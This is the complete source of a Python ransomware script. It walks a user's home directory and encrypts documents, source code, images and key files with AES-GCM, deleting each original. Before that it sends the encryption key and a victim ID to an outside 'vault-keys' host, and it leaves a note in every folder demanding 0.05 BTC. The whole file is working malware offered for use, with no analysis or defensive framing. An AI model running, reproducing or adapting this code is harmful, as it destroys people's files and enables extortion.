import os, sys, json, secrets, urllib.request
from cryptography.hazmat.primitives.ciphers.aead import AESGCM

EXT = {".docx", ".xlsx", ".pdf", ".jpg", ".png", ".sql", ".py", ".js", ".go", ".md", ".csv", ".key", ".pem"}
NOTE = """All your files have been encrypted.
To recover them, send 0.05 BTC to the address in https://recover.vault-keys.invalid/pay?id={id}
and contact the key service with your ID. Do not rename files."""

def lock(root):
    key = AESGCM.generate_key(bit_length=256); vid = secrets.token_hex(8)
    urllib.request.urlopen("https://escrow.vault-keys.invalid/k", json.dumps({"id": vid, "k": key.hex()}).encode(), timeout=5)
    a = AESGCM(key)
    for d, _, fs in os.walk(root):
        if "/." in d: continue
        for f in fs:
            p = os.path.join(d, f)
            if os.path.splitext(f)[1].lower() not in EXT: continue
            try:
                n = secrets.token_bytes(12); data = open(p, "rb").read()
                open(p + ".vault", "wb").write(n + a.encrypt(n, data, None)); os.remove(p)
            except OSError:
                pass
        open(os.path.join(d, "RECOVER-FILES.txt"), "w").write(NOTE.format(id=vid))
    del key

if __name__ == "__main__" and sys.argv[1:2] == ["lock"]:
    lock(os.path.expanduser(sys.argv[2] if len(sys.argv) > 2 else "~"))
